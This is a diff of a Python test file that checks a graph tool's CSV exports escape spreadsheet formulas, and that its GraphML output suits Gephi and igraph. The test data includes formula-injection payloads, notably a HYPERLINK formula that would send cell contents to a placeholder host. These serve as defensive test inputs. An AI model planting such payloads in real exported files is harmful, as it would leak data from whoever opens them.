@@ -4,10 +4,13 @@ from __future__ import annotations
 
 import csv
 import json
+from io import StringIO
 from pathlib import Path
 from typing import Any
+from xml.etree import ElementTree
 
 import networkx as nx
+import pyarrow as pa
 import pyarrow.dataset as ds
 import pyarrow.parquet as pq
 import pytest
@@ -15,11 +18,15 @@ from click.testing import CliRunner
 
 from ptmgraph.graph.current import BuiltGraph, current_graph
 from ptmgraph.graph.export.graphml import write_graphml, write_networkx_graphml
+from ptmgraph.graph.export.spreadsheet import write_csv_rows
 from ptmgraph.graph.export.tables import graph_tables, lineage_tables, write_csv, write_parquet
 from ptmgraph.graph.export.to_networkx import tables_to_networkx, to_networkx
 from ptmgraph.graph.schema import LINEAGE, TABLES, Type
 from ptmgraph.graph.store.arcade.store import ArcadeStore
+from ptmgraph.graph.store.result import Result
+from ptmgraph.graph.tables.merge import merged_schema
 from ptmgraph.terminal.cli import cli
+from ptmgraph.views.downloads import to_csv
 from tests.helpers.graph_fixture import ODD_IDS, fixture_home
 
 
@@ -66,6 +73,48 @@ def _csv_text(value: Any) -> str:
     return json.dumps(value, ensure_ascii=False) if isinstance(value, list) else str(value)
 
 
+HARMLESS = ["a/b", "", "1=1", "a-b", " =1", "'=1", "#x", "[1]"]
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1)',
+    "=1+1",
+    "+1",
+    "-1+2",
+    "@sum(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+]
+
+
+def test_csv_has_no_text_that_a_spreadsheet_calculates(tmp_path: Path) -> None:
+    texts = HARMLESS + FORMULAS
+    schema = merged_schema(TABLES["Model"])
+    rows = [{"id": text, "downloads": -1, "tags": [text]} for text in texts]
+    tables = {"Model": ds.dataset(pa.Table.from_pylist(rows, schema=schema))}
+    for raw in (False, True):
+        write_csv(tables, tmp_path / str(raw), raw=raw)
+        with (tmp_path / str(raw) / "Model.csv").open(encoding="utf-8", newline="") as stream:
+            read = list(csv.DictReader(stream))
+        mark = "" if raw else "'"
+        assert [row["id"] for row in read] == HARMLESS + [mark + text for text in FORMULAS]
+        assert {row["downloads"] for row in read} == {"-1"}
+        assert [json.loads(row["tags"]) for row in read] == [[text] for text in texts]
+
+
+def test_rows_as_csv_have_none_either() -> None:
+    texts = HARMLESS + FORMULAS
+    rows = [{"=col": text, "n": -1.5, "none": None, "list": ["=1"]} for text in texts]
+    for raw, mark in ((False, "'"), (True, "")):
+        out = StringIO(newline="")
+        write_csv_rows(Result(tuple(rows[0]), rows), out, raw)
+        header, *lines = csv.reader(StringIO(out.getvalue(), newline=""))
+        assert header == [f"{mark}=col", "n", "none", "list"]
+        assert [line[0] for line in lines] == HARMLESS + [mark + text for text in FORMULAS]
+        assert {tuple(line[1:]) for line in lines} == {("-1.5", "", '["=1"]')}
+    assert list(csv.reader(StringIO(to_csv(Result(("x",), [{"x": "=1"}]))))) == [["x"], ["'=1"]]
+
+
 def test_csv_tells_empty_text_from_nothing(graph: BuiltGraph, tmp_path: Path) -> None:
     write_csv(graph_tables(graph.tables), tmp_path)
     text = (tmp_path / "Model.csv").read_text("utf-8")
@@ -80,8 +129,46 @@ def test_graphml_round_trip(graph: BuiltGraph, tmp_path: Path) -> None:
     write_graphml(tables, tmp_path / "graph.graphml")
     read = nx.read_graphml(tmp_path / "graph.graphml", force_multigraph=True)
     meant = tables_to_networkx(tables)
-    assert dict(read.nodes(data=True)) == {n: _texts(d) for n, d in meant.nodes(data=True)}
+    assert dict(read.nodes(data=True)) == {
+        key: _texts(rest | {"label": id, "type": label})
+        for key, data in meant.nodes(data=True)
+        for id, label, rest in [_parts(data)]
+    }
+    for *_, data in meant.edges(data=True):
+        data["label"] = data["type"]
     assert _edges(read) == _edges(meant)
+
+
+def _parts(data: dict[str, Any]) -> tuple[str, str, dict[str, Any]]:
+    """The id, the label and the other attributes of a node."""
+    rest = dict(data)
+    return rest.pop("id"), rest.pop("label"), rest
+
+
+def test_graphml_is_as_other_tools_show_and_tell_apart(tmp_path: Path) -> None:
+    """Gephi shows the key `label`, and takes edges with one id for one; igraph puts the ids of the
+    XML under `id`, so no key may have that name."""
+    tables = graph_tables(current_graph(fixture_home()).tables)
+    write_graphml(tables, tmp_path / "graph.graphml")
+    root = ElementTree.parse(tmp_path / "graph.graphml").getroot()
+    space = {"g": "http://graphml.graphdrawing.org/xmlns"}
+    keys = [key.attrib for key in root.findall("g:key", space)]
+    assert "id" not in {key["attr.name"] for key in keys}
+    assert len({key["id"] for key in keys}) == len(keys)
+    shown = {
+        node.attrib["id"]: {data.attrib["key"]: data.text for data in node}
+        for node in root.iterfind("g:graph/g:node", space)
+    }
+    for key, data in shown.items():
+        assert f"{data['node.type']}:{data['node.label']}" == key
+    edges = root.findall("g:graph/g:edge", space)
+    assert len({edge.attrib["id"] for edge in edges}) == len(edges)
+    ends = [(edge.attrib["source"], edge.attrib["target"]) for edge in edges]
+    assert len(set(ends)) < len(ends)  # parallel edges, each with its type
+    assert {end for pair in ends for end in pair} <= set(shown)
+    for edge in edges:
+        held = {data.attrib["key"]: data.text for data in edge}
+        assert held["edge.label"] == held["edge.type"]
 
 
 def _texts(data: dict[str, Any]) -> dict[str, Any]:
@@ -101,7 +188,9 @@ def test_graphml_replaces_what_xml_cannot_hold(tmp_path: Path) -> None:
     graph = to_networkx([{"child": "a\x00\x0b", "parent": "<b>&\r\n", "relation": "]]>", "n": 1}])
     write_networkx_graphml(graph, tmp_path / "odd.graphml")
     read = nx.read_graphml(tmp_path / "odd.graphml", force_multigraph=True)
-    assert list(read.edges(data=True)) == [("a\ufffd\ufffd", "<b>&\r\n", {"type": "]]>", "n": 1})]
+    assert list(read.edges(data=True)) == [
+        ("a\ufffd\ufffd", "<b>&\r\n", {"type": "]]>", "label": "]]>", "n": 1})
+    ]
 
 
 def test_graphml_of_rows_keeps_types_and_mixes_as_text(tmp_path: Path) -> None:
